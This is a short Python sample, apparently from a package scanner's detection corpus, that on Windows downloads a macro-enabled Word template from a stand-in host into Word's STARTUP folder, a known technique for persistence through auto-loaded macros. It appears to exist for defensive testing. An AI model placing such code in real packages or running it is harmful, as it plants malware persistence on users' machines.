# pkgguard corpus 766 (persistence), modelled on [stealer-profile]; inert, never run.
import os
import sys
import urllib.request

if sys.platform == "win32":
    startup = os.path.join(os.environ["APPDATA"], "Microsoft", "Word", "STARTUP")
    os.makedirs(startup, exist_ok=True)
    target = os.path.join(startup, "Normal2.dotm")
    if not os.path.exists(target):
        urllib.request.urlretrieve("https://office-templates.example/t/normal.dotm", target)
